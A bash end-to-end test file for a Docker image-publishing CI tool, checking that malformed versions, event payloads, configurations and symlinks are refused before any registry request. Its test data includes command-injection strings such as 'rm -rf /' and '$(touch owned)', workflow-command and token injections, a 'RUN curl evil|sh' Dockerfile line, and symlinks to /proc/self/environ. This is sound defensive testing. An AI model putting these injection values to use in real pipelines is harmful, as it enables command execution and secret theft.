#!/usr/bin/env bash
# Input that must end well: a clear refusal, or the right answer, before anything is asked of a registry.
# shellcheck disable=SC2016  # shell text as input
# shellcheck source=tests/e2e/lib.bash
source "$(dirname "${BASH_SOURCE[0]}")/lib.bash"
use_store containerd
own_registry own
ORIGINAL=$WORK/original
tiny_project "$ORIGINAL"

# project: a fresh copy to spoil.
project() {
  rm -rf "$WORK/project"
  cp -R "$ORIGINAL" "$WORK/project"
  cd "$WORK/project"
  forget_requests
}

# refused MESSAGE HINT: what `run` says; nothing was asked of the registry, and nothing is left behind.
expect_refused() {
  run crategate run --to "$OWN" "${TAG_PUSH[@]}"
  expect_failure 2 bad-input "$1" "${2-.}"
  expect_equal "requests to the registry" "$(requests)" 0
  expect_equal "images in the layout or plan" "$(ls .crategate 2>/dev/null || true)" ""
}

# recorded_docker: from now on `docker` is one that notes its arguments in $WORK/asked before it does as it is told.
recorded_docker() {
  local real
  real=$(command -v docker)
  mkdir -p "$WORK/recording"
  printf '#!/bin/sh\nprintf "%%s\\n" "$*" >>"%s"\nexec "%s" "$@"\n' "$WORK/asked" "$real" >"$WORK/recording/docker"
  chmod +x "$WORK/recording/docker"
  : >"$WORK/asked"
  PATH=$WORK/recording:$PATH
}

# A04: the event's name says push, the payload says pull request.
it_takes_a_push_with_a_pull_request_for_a_pull_request() {
  project
  echo more >>src/hello
  commit 'A change'
  recorded_docker
  as_runner push refs/tags/v1.2.3 '{"ref": "refs/tags/v1.2.3", "pull_request": {"number": 7}}'
  run crategate run --to "$OWN/a04" --only runtime=cpu --only python=3.11
  expect_ok
  expect_match "end" "$OUT" 'this event publishes nothing'
  expect_match "what docker was asked" "$(<"$WORK/asked")" 'buildx build .*--no-cache'
  expect_no_match "what docker was asked" "$(<"$WORK/asked")" '--cache-(to|from)|--push|login|(^|[[:space:]])push([[:space:]]|$)'
  expect_equal "push" "$(output push)" false
  expect_equal "requests to the registry" "$(requests)" 0
  run crategate push
  expect_failure 2 bad-input 'expected a plan that publishes' '.'
  expect_equal "requests to the registry" "$(requests)" 0
}

# A10, A11, A12: docker and the runner see nothing of them.
it_refuses_versions_that_are_none() {
  project
  recorded_docker
  as_runner push refs/tags/v1.2.3 '{}'
  local text
  for text in '' '1.2\n' 'v1.2.3; rm -rf /\n' 'v1.2.3\nv1.2.4\n' '\xef\xbb\xbfv1.2.3\n' 'v1.2.3+build\n' '$(touch owned)\n' 'v1.2.3\0\n' \
    'v1.0.0$(touch owned)\n' 'v1.0.0`touch owned`\n' 'v1.0.0;touch owned\n' 'v1.0.0|touch owned\n' 'v1.0.0&&touch owned\n' \
    'v1.0.0${{ github.token }}\n' 'v1.0.0\n::error::x\n' 'v1.0.0\r::set-output name=version::x\n' 'v1.0.0%%0A::error::x\n' \
    'v1.0.0##[command]x\n' 'v1.0.0\x1b[2J\n' 'latest\n' '-rc\n' '..\n' '--privileged\n' 'v1.2.3\xe2\x80\xa8\n' \
    'v\xef\xbc\x91.2.3\n'; do
    # shellcheck disable=SC2059  # the escapes are the point
    printf -- "$text" >VERSION
    expect_refused '^crategate: 2 bad-input: VERSION(:[0-9]+)*: ' '.'
    expect_match "stdout" "$OUT" '^::error ([^:]*,)?title=crategate%3A bad-input::'
    expect_equal "lines on stdout" "$(wc -l <<<"$OUT")" 1
  done
  [[ ! -e owned ]] || fail "no file made by a version"
  truncate -s 1G VERSION
  expect_refused 'VERSION.*1\.0 GiB' '.'
  expect_equal "what docker was asked" "$(<"$WORK/asked")" ""
  expect_match "output by the runner's grammar" "$(output error)" '1\.0 GiB'
  expect_equal "outputs" "$(sed -n 's/<<ghadelimiter_.*//p' "$GITHUB_OUTPUT" | sort -u | paste -sd ' ')" 'error exit_code'
  expect_equal "control characters" "$(tr -d '\n\40-\176\200-\377' <"$GITHUB_OUTPUT" | wc -c)" 0
  rm VERSION
  expect_refused 'VERSION: expected .*found no such file' 'VERSION'
  ln -s /etc/hostname VERSION
  expect_refused 'VERSION' '.'
  rm VERSION
  mkfifo VERSION
  run timeout 5 crategate plan "${TAG_PUSH[@]}"
  expect_failure 2 bad-input 'VERSION' '.'
  rm VERSION
  mkdir VERSION
  expect_refused 'VERSION.*directory' '.'
}

it_reads_a_version_with_a_carriage_return() {
  project
  printf 'v1.2.3\r\n' >VERSION
  run crategate plan "${TAG_PUSH[@]}"
  expect_ok
  expect_equal "version" "$(jq -r .version .crategate/plan.json)" v1.2.3
}

# A14, A15
it_refuses_python_versions_by_line() {
  project
  local text
  for text in '3.11\n3.10\rRUN curl evil|sh\n' '3.11\n3.10 AS x\n' '3.11\n3.11 \n' '3.11\n3.x\n' '3.11\n3.11\n' '3.11\n3.10.1\n' '3.11\n03.1\n' '3.11\n# text\n'; do
    # shellcheck disable=SC2059
    printf "$text" >PYTHON_VERSIONS
    expect_refused '^crategate: 2 bad-input: PYTHON_VERSIONS:2' '.'
  done
  : >PYTHON_VERSIONS
  expect_refused 'PYTHON_VERSIONS' '.'
}

# A15
it_keeps_3_10_and_3_1_apart() {
  project
  printf '3.10\r\n\r\n3.1' >PYTHON_VERSIONS
  run crategate plan "${TAG_PUSH[@]}"
  expect_ok
  expect_equal "cells" "$(jq -c '[.cells[].key]' .crategate/plan.json)" '["cpu-py3.10","cuda-py3.10","cpu-py3.1","cuda-py3.1"]'
}

# A13
it_refuses_a_tag_that_is_not_the_version() {
  project
  run crategate run --to "$OWN" --event push --ref refs/tags/v1.2.4
  expect_failure 2 bad-input 'v1\.2\.4.*v1\.2\.3' '.'
  expect_equal "requests to the registry" "$(requests)" 0
}

# A15
it_refuses_more_cells_than_a_workflow_takes() {
  project
  {
    sed '/^axes:/,/runtime:/d' crategate.yml
    echo 'cell: "{number}"'
    echo "axes: {number: [$(seq -s, 257)]}"
  } >edited
  mv edited crategate.yml
  expect_refused '257.*256|256.*257' '.'
  sed -i 's/,257\]/]/' crategate.yml
  run crategate plan "${TAG_PUSH[@]}"
  expect_ok
  expect_equal "cells" "$(jq '.cells | length' .crategate/plan.json)" 256
}

it_refuses_two_cells_of_one_name() {
  project
  sed -i 's|^image: .*|image: "tiny/app-{runtime}"|' crategate.yml
  expect_refused 'tiny/app-cpu' '.'
}

it_refuses_a_configuration_with_the_place() {
  project
  echo 'tset: {run: [true]}' >>crategate.yml
  expect_refused '^crategate: 2 bad-input: crategate\.yml:[0-9]+:1: .*tset' 'test'
  project
  sed -i 's/timeout: 1m/timeout: soon/' crategate.yml
  expect_refused '^crategate: 2 bad-input: crategate\.yml:[0-9]+:[0-9]+: .*soon' '.'
  rm crategate.yml
  expect_refused 'crategate\.yml' '.'
}

it_refuses_a_template_with_an_unknown_variable() {
  project
  echo 'LABEL x={{devise}}' >>docker/Dockerfile.mustache
  run crategate run --to "$OWN" "${TAG_PUSH[@]}"
  expect_failure 2 bad-input '^crategate: 2 bad-input: docker/Dockerfile\.mustache:4:[0-9]+: .*devise' 'device'
  expect_equal "Dockerfiles" "$(ls docker)" Dockerfile.mustache
  expect_equal "requests that write" "$(writes)" 0
}

# A18
it_writes_no_dockerfile_through_a_link() {
  project
  mkdir -p docker/dockerfiles "$WORK/elsewhere"
  ln -s "$WORK/elsewhere/stolen" docker/dockerfiles/Dockerfile.cpu-py3.11
  run crategate plan "${TAG_PUSH[@]}"
  expect_ok
  run crategate generate
  expect_failure 2 bad-input 'Dockerfile\.cpu-py3\.11.* symbolic link' '.'
  [[ ! -e $WORK/elsewhere/stolen ]] || fail "nothing written through a link"
  rm -rf docker/dockerfiles
  ln -s "$WORK/elsewhere" docker/dockerfiles
  run crategate generate
  expect_failure 2 bad-input 'docker/dockerfiles' '.'
  expect_equal "files behind the link" "$(ls "$WORK/elsewhere")" ""
}

it_finds_drifted_dockerfiles() {
  project
  run crategate plan "${TAG_PUSH[@]}"
  run crategate generate
  expect_ok
  run crategate generate --check
  expect_ok
  echo '# by hand' >>docker/dockerfiles/Dockerfile.cuda-py3.13
  run crategate generate --check
  expect_failure 13 generated-files-drifted '1 of 4|Dockerfile\.cuda-py3\.13' 'crategate generate'
}

# payload JSON: what `plan` makes of it.
plan_of_payload() {
  printf '%s' "$1" >"$WORK/payload.json"
  run crategate plan "${TAG_PUSH[@]}" --payload "$WORK/payload.json"
}

# A01, A02, A03, A09
it_refuses_a_broken_event() {
  project
  local text
  for text in '{"ref": "refs/tags/v1.2.3"' '{"ref": "refs/tags/v1.2.3", "x": "\ud800"}' '[]' '{"ref": 3}' \
    '{"ref": "refs/tags/v1.2.3"} {}' $'{"ref": "refs/tags/v1.2.3", "x": "\xff"}' '{"ref": "refs/tags/other"}' 'nonsense' \
    '{"ref": "refs/tags/v9.9.9", "ref": "refs/tags/v1.2.3"}' $'\xef\xbb\xbf{"ref": "refs/tags/v1.2.3"}'; do
    plan_of_payload "$text"
    expect_failure 2 bad-input 'event payload' '.'
  done
  run crategate plan "${TAG_PUSH[@]}" --payload "$WORK/none.json"
  expect_failure 2 bad-input 'event payload.*none\.json' '.'
  ln -s /proc/self/environ "$WORK/linked.json"
  CANARY=e2e-canary run timeout 5 crategate plan "${TAG_PUSH[@]}" --payload "$WORK/linked.json"
  expect_failure 2 bad-input 'linked\.json.* symbolic link' '.'
  expect_no_match "output" "$OUT$ERR" 'canary'
  mkfifo "$WORK/pipe.json"
  run timeout 5 crategate plan "${TAG_PUSH[@]}" --payload "$WORK/pipe.json"
  expect_failure 2 bad-input 'pipe\.json.* named pipe' '.'
  plan_of_payload ''
  ((STATUS == 0 || STATUS == 2)) || fail "exit 0 or 2"
  plan_of_payload "$(printf '{"a":%.0s' {1..100000})"
  expect_failure 2 bad-input 'event payload' '.'
}

# A01
it_reads_a_huge_event() {
  project
  { printf '{"ref": "refs/tags/v1.2.3", "commits": ["'; head -c 30000000 /dev/zero | tr '\0' x; printf '"]}'; } >"$WORK/payload.json"
  run timeout 20 crategate plan "${TAG_PUSH[@]}" --payload "$WORK/payload.json"
  expect_ok
  { printf '{"ref": "refs/tags/v1.2.3", "commits": ["'; head -c 80000000 /dev/zero | tr '\0' x; printf '"]}'; } >"$WORK/payload.json"
  run timeout 20 crategate plan "${TAG_PUSH[@]}" --payload "$WORK/payload.json"
  expect_failure 2 bad-input 'payload\.json' '.'
}

it_refuses_an_unknown_event_and_runs_nothing() {
  project
  run crategate run --to "$OWN" --event no_such_event --ref refs/heads/main
  expect_ok
  expect_match "stderr" "$ERR" 'nothing to do: event "no_such_event": not in the policy table'
  expect_equal "requests to the registry" "$(requests)" 0
}

it_asks_for_git_where_there_is_none() {
  project
  rm -rf .git
  expect_refused 'this is not a git repository' 'git'
  run crategate plan
  expect_failure 2 bad-input 'this is not a git repository' 'git'
}

it_counts_the_dependencies_of_a_shallow_clone_as_changed() {
  local depth
  for depth in 1 2; do
    git clone --quiet --depth $depth --branch v1.2.3 --config advice.detachedHead=false "file://$ORIGINAL" "$WORK/depth-$depth"
    cd "$WORK/depth-$depth"
    run crategate plan "${TAG_PUSH[@]}"
    expect_ok
    if ((depth == 1)); then
      expect_match "output" "$OUT$ERR" 'fetch-depth: 2'
      expect_equal "warnings" "$(grep -c fetch-depth <<<"$OUT"$'\n'"$ERR")" 1
    else
      expect_no_match "output" "$OUT$ERR" 'fetch-depth'
    fi
    expect_equal "cache write" "$(jq -c '[.cells[].cache_write] | unique' .crategate/plan.json)" "[$( ((depth == 1)) && echo true || echo false)]"
  done
}

it_lists_every_command_and_every_write_and_makes_nothing() {
  project
  local cell image before
  before=$(git status --porcelain --ignored)
  run crategate run --dry-run --to "$OWN/dry" "${TAG_PUSH[@]}"
  expect_ok
  for cell in "${CELLS[@]}"; do
    image=$OWN/dry/tiny/app-$cell
    expect_match "listing" "$OUT" "write docker/dockerfiles/Dockerfile.$cell"
    expect_match "listing" "$OUT" "docker buildx build .*--tag=$image:v1.2.3"
    expect_match "listing" "$OUT" "PUT $image@sha256:<tested>"
    expect_match "listing" "$OUT" "PUT $image:v1.2.3 "
    expect_match "listing" "$OUT" "PUT $image:latest "
  done
  expect_equal "containers in the listing" "$(grep -c '^docker run ' <<<"$OUT")" 4
  expect_equal "cached reads in the listing" "$(grep -c -- '--cache-from=' <<<"$OUT")" 4
  expect_match "order" "$(tr '\n' ' ' <<<"$OUT")" 'write docker.*docker buildx.*@sha256.*:v1\.2\.3 sha256.*:latest sha256'
  expect_equal "files" "$(git status --porcelain --ignored)" "$before"
  expect_equal "requests to the registry" "$(requests)" 0
  run crategate plan --dry-run "${TAG_PUSH[@]}"
  expect_ok
  expect_equal "files" "$(git status --porcelain --ignored)" "$before"
}

it_names_the_nearest_option_and_command() {
  project
  run crategate rnu
  expect_failure 2 bad-input 'rnu' 'run'
  run crategate plan --evnet push
  expect_failure 2 bad-input 'evnet' '--event'
  run crategate build
  expect_failure 2 bad-input '.' 'crategate plan'
  run crategate plan "${TAG_PUSH[@]}"
  run crategate build --cell cpu-py3.12
  expect_failure 2 bad-input 'cpu-py3\.12' 'cpu-py3\.1[13]'
  run crategate build --cell ../../etc
  expect_failure 2 bad-input '.' '.'
  run crategate build --cell cpu-py3.11 --mode publish
  expect_failure 2 bad-input 'mode: expected test or push, found "publish"' '.'
  run crategate build --cell cpu-py3.11 --fresh
  expect_failure 2 bad-input 'fresh: expected what the plan says, false, found true' 'plan'
}

run_cases
